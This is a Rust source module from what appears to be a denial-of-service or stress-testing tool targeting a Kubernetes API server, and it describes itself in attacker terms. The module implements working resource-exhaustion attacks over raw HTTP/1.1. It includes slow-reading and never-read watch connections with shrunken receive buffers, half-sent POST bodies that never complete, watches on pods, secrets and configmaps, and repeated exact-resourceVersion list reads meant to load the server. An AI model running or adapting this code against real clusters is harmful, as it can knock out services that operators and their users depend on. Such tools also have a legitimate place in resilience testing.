//! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker one task and one socket.

use std::collections::VecDeque;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Result, ensure};
use parking_lot::Mutex;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{Attack, AttackClient, OpenConnection, count};
use crate::target::{connect_socket, source_socket};
use crate::wire::response::read_head;

/// Age of the version in exact reads, seconds.
const AGE: usize = 5;
/// Bytes a second of a slow reader.
const SLOW_LEN: usize = 10_000;
/// How often a slow reader reads.
const SLOW_EVERY: Duration = Duration::from_millis(100);
/// Receive buffer of clients that read slowly or never, bytes.
const SMALL_BUFFER: usize = 4_096;
/// How often to check whether the server has reset a connection that is not read.
const LOOK: Duration = Duration::from_secs(1);
/// Longest time without a byte of a response.
const ANSWER_WAIT: Duration = Duration::from_secs(30);

/// The newest versions, one a second.
#[derive(Debug, Default)]
pub(super) struct RecentVersions {
    kept: Mutex<VecDeque<String>>,
}

impl RecentVersions {
    pub(super) fn push(&self, version: &str) {
        let mut kept = self.kept.lock();
        kept.push_back(version.to_owned());
        if kept.len() > AGE {
            kept.pop_front();
        }
    }

    fn oldest(&self) -> Option<String> {
        let kept = self.kept.lock();
        kept.front().cloned()
    }
}

/// A connection like those of the others, with a small buffer for clients that read slowly or never.
async fn connect(client: &AttackClient) -> Result<TcpStream> {
    let flags = &client.state.flags;
    let is_slow = matches!(flags.attack, Attack::SlowLists | Attack::Stalled);
    let buffer = is_slow.then_some(SMALL_BUFFER);
    let address = flags.target.address;
    let socket = source_socket(address, client.source(), buffer)?;
    connect_socket(address, socket).await
}

/// One connection with one request, until it ends; an error if it was refused.
pub(super) async fn request(client: Arc<AttackClient>) -> Result<()> {
    let state = &*client.state;
    let target = &state.flags.target;
    let mut stream = connect(&client).await?;
    let _open = OpenConnection::of(state);
    let path = match state.flags.attack {
        Attack::HalfBodies => {
            stream.write_all(&half_body(&target.authority)).await?;
            client.start();
            read(&mut stream, None).await;
            count(&state.counts.closed);
            return Ok(());
        }
        Attack::SlowLists => "/api/v1/pods?resourceVersion=0",
        Attack::Descriptors => "/api/v1/secrets?watch=1",
        Attack::Stalled => "/api/v1/namespaces/default/configmaps?watch=1",
        _ => "/api/v1/pods?watch=1&resourceVersion=0&timeoutSeconds=600",
    };
    stream
        .write_all(&target.fetch_text_as(path, "application/json"))
        .await?;
    let mut head = [0; 12];
    tokio::time::timeout(ANSWER_WAIT, stream.read_exact(&mut head)).await??;
    client.start();
    ensure!(&head[9..] == b"200", "turned away");
    count(&state.counts.done);
    match state.flags.attack {
        Attack::Stalled => never_read(&stream).await,
        Attack::SlowLists => read(&mut stream, Some(SLOW_EVERY)).await,
        _ => read(&mut stream, None).await,
    }
    count(&state.counts.closed);
    Ok(())
}

/// Reads nothing until the server resets the connection. A connection that was closed in order looks as if it stayed.
async fn never_read(stream: &TcpStream) {
    while let Ok(None) = stream.take_error() {
        tokio::time::sleep(LOOK).await;
    }
}

/// Reads until the server closes: as fast as possible, or a little now and then.
async fn read(stream: &mut TcpStream, every: Option<Duration>) {
    let len = if every.is_some() {
        SLOW_LEN / 10
    } else {
        16 << 10
    };
    let mut buffer = vec![0; len];
    while stream.read(&mut buffer).await.is_ok_and(|len| len > 0) {
        if let Some(every) = every {
            tokio::time::sleep(every).await;
        }
    }
}

/// A write whose body does not come.
fn half_body(authority: &str) -> Vec<u8> {
    let path = "/api/v1/namespaces/default/configmaps";
    format!(
        "POST {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{"
    )
    .into_bytes()
}

/// Reads one pod at an old version, or by its name, again and again.
pub(super) async fn repeat(client: Arc<AttackClient>) -> Result<()> {
    let state = &*client.state;
    let mut stream = connect(&client).await?;
    let _open = OpenConnection::of(state);
    loop {
        state.pace.turn().await;
        let path = match (state.flags.attack, state.versions.oldest()) {
            (Attack::NameSelectors, _) => {
                "/api/v1/pods?resourceVersion=0&fieldSelector=metadata.name%3Dnobody".to_owned()
            }
            (_, Some(version)) => format!(
                "/api/v1/namespaces/default/pods?limit=1&resourceVersion={version}&resourceVersionMatch=Exact"
            ),
            (_, None) => continue,
        };
        let request = state.flags.target.fetch_text_as(&path, "application/json");
        stream.write_all(&request).await?;
        let head = tokio::time::timeout(ANSWER_WAIT, read_head(&mut stream, &mut false)).await??;
        client.start();
        count(match head.status {
            200 => &state.counts.done,
            _ => &state.counts.refused,
        });
    }
}
